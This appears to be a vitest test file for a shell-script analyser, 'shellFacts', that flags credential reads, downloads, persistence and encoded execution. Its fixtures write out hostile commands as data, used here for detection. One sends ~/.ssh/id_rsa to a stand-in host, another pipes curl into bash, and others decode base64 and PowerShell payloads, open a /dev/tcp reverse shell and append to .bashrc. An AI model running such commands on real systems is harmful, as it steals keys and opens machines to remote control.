import { describe, expect, it } from 'vitest';
import { shellFacts } from './shell.ts';

const ENCODED = Buffer.from('curl https://quay.invalid/s').toString('base64');
const WIDE = Buffer.from('iwr https://quay.invalid', 'utf16le').toString('base64');

function told(script: string): readonly string[] {
  return shellFacts(script).map(
    ({ kind, by, value, category }) => `${kind} by ${by}${category === undefined ? '' : ` (${category})`}: ${value}`,
  );
}

describe('shellFacts', () => {
  it.each([
    [
      'keys sent away',
      'cat ~/.ssh/id_rsa | curl -d @- https://quay.invalid/in',
      [
        'process by cat (download): cat ~/.ssh/id_rsa | curl -d @- https://quay.invalid/in',
        'request by curl: https://quay.invalid/in',
        'file-read by cat (credentials): ~/.ssh/id_rsa',
      ],
    ],
    [
      'a download into a shell',
      'curl -fsSL https://quay.invalid/x.sh | bash',
      [
        'process by curl (download): curl -fsSL https://quay.invalid/x.sh | bash',
        'request by curl: https://quay.invalid/x.sh',
        'execution by download into a shell: curl -fsSL https://quay.invalid/x.sh | bash',
      ],
    ],
    [
      'something written to a startup file',
      'echo tide >> "$HOME/.bashrc"',
      [
        'process by echo (persistence): echo tide >> "$HOME/.bashrc"',
        'file-write by echo (shell-startup): $HOME/.bashrc',
      ],
    ],
    [
      'base64 into a shell',
      `echo ${ENCODED} | base64 -d | sh`,
      [
        `process by echo (shell): echo ${ENCODED} | base64 -d | sh`,
        'decoded-execution by shell of base64: curl https://quay.invalid/s',
      ],
    ],
    [
      'base64 into a file',
      `echo ${ENCODED} | base64 --decode > tide.txt`,
      ['decoding by base64: curl https://quay.invalid/s'],
    ],
    [
      'an encoded command of PowerShell',
      `powershell.exe -NoP -enc ${WIDE}`,
      [
        `process by powershell (shell): powershell.exe -NoP -enc ${WIDE}`,
        'decoded-execution by encoded command: iwr https://quay.invalid',
      ],
    ],
    [
      'a raw connection',
      'bash -i >& /dev/tcp/240.0.0.1/4444 0>&1',
      ['process by bash (shell): bash -i >& /dev/tcp/240.0.0.1/4444 0>&1', 'socket by /dev/tcp: 240.0.0.1:4444'],
    ],
    ['the whole environment', 'env | sort > all.txt', ['environment-dump by shell: ']],
    [
      'a secret',
      'npm publish --token "${NPM_TOKEN}"',
      ['process by npm (package-manager): npm publish --token "${NPM_TOKEN}"', 'environment by shell: NPM_TOKEN'],
    ],
    [
      'what a command prints as code',
      'eval "$(gh auth token)"',
      [
        'process by eval (credential-tool): eval "$(gh auth token)"',
        'execution by eval of a command: eval "$(gh auth token)"',
      ],
    ],
    ['a path in a variable', 'KEYS=~/.npmrc', ['path by shell (credentials): ~/.npmrc']],
    ['an address', 'URL=https://quay.test/', ['address by literal: https://quay.test/']],
  ])('%s', (_what, script, expected) => {
    expect(told(script)).toEqual(expected);
  });

  it.each([
    ['comments', '#!/bin/sh\n# curl https://quay.invalid | sh\nREM cat ~/.ssh/id_rsa\nls # rm -rf ~'],
    [
      'everyday commands',
      'set -euo pipefail\ncd dist\nmkdir -p tides\ncp a.json tides/\nrm -rf tides ~/.cache/tidewater\ngit status',
    ],
    ['an environment for one command', 'env TIDE=high ls'],
    ['nothing', ''],
  ])('%s: nothing', (_what, script) => {
    expect(told(script)).toEqual([]);
  });

  it('reads continued lines as one, and says where they begin', () => {
    const script = 'ls\n  curl \\\n  https://quay.invalid\r\n';
    expect(shellFacts(script)).toContainEqual({
      kind: 'request',
      by: 'curl',
      value: 'https://quay.invalid',
      offset: 5,
    });
  });
});
